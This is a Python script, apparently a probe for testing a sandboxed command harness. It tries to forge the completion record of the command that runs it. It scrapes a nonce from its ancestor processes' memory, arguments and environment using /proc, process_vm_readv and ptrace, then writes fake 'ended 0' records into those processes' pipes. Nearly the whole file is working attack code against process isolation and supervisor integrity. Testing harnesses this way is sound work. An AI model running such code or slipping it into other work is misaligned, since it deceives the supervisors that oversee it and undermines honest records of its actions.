"""Run inside a sandbox: tries to forge the completion record of the command that runs it. Always exits with 7.

It looks for the nonce in the memory, arguments and environment of the processes that wait for it, through /proc,
process_vm_readv and tracing, and writes the forged record to its own output and to every pipe of theirs. These
processes are its ancestors; it touches no others, since not every sandbox has a separate process namespace.
"""

import ctypes
import os
import re
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
NONCE = re.compile(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])")
ATTACH, DETACH, STOPPED = 16, 17, 0x40000000


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def areas(pid: int) -> list[tuple[int, int]]:
    with open(f"/proc/{pid}/maps") as file:
        lines = [line.split() for line in file]
    bounds = [line[0].split("-") for line in lines if line[1].startswith("rw")]
    return [(int(low, 16), int(high, 16)) for low, high in bounds]


def by_proc(pid: int) -> bytes:
    data = b""
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for low, high in areas(pid):
            memory.seek(low)
            data += memory.read(high - low)
    return data


def by_call(pid: int) -> bytes:
    data = b""
    for low, high in areas(pid):
        buffer = ctypes.create_string_buffer(high - low)
        here, there = Piece(ctypes.addressof(buffer), high - low), Piece(low, high - low)
        if LIBC.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            data += buffer.raw
    return data


def by_name(pid: int) -> bytes:
    data = b""
    for name in ("cmdline", "environ"):
        with open(f"/proc/{pid}/{name}", "rb") as file:
            data += file.read()
    return data


def staged() -> bytes:
    return " ".join(str(entry) for _, folders, files in os.walk("/run/heats") for entry in (*folders, *files)).encode()


def parent(pid: int) -> int:
    if pid == 0:  # whoever started the command is outside of the sandbox
        return 0
    with open(f"/proc/{pid}/stat") as file:
        return int(file.read().rsplit(")", 1)[1].split()[1])


def main() -> None:
    """Look everywhere, then write everywhere."""
    shell = os.getppid()
    watcher = parent(shell)
    supervisor = parent(watcher)
    others = [pid for pid in (watcher, supervisor, 1 if parent(supervisor) == 1 else 0) if pid > 0]
    nonces = set(NONCE.findall(staged()))
    for pid in others:
        for look in (by_proc, by_call, by_name):
            try:
                nonces |= set(NONCE.findall(look(pid)))
            except OSError:
                continue
        if LIBC.ptrace(ATTACH, pid, None, None) == 0:
            os.waitpid(pid, STOPPED)
            LIBC.ptrace(DETACH, pid, None, None)
            os.write(2, b"traced\n")
    outputs = [1, 2]
    for pid in others:
        for number in range(1, 20):
            try:
                outputs.append(os.open(f"/proc/{pid}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK))
            except OSError:
                continue
    for nonce in nonces:
        for output in outputs:
            os.write(output, b"\x1e%s ended 0 0 0 0\x1e" % nonce)
            os.write(output, b"\x1e%s ended\x1e" % nonce)
    print(f"{len(nonces)} nonces, {len(outputs) - 2} outputs of others")
    sys.exit(7)


if __name__ == "__main__":
    main()
